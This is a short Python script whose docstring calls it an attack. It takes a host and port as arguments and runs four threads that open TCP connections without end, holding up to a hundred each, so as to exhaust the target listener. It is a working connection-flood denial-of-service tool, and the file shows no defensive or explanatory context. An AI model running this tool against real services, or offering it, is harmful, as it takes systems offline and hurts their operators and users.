"""Attack: crowd out a listener by new connections without end. ``flood_port.py HOST PORT``."""

import collections
import contextlib
import socket
import sys
import threading

where = (sys.argv[1], int(sys.argv[2]))


def flood():
    held = collections.deque(maxlen=100)
    while True:
        with contextlib.suppress(OSError):
            held.append(socket.create_connection(where, timeout=1))


for _ in range(4):
    threading.Thread(target=flood, daemon=True).start()
print("flooding", flush=True)
threading.Event().wait()
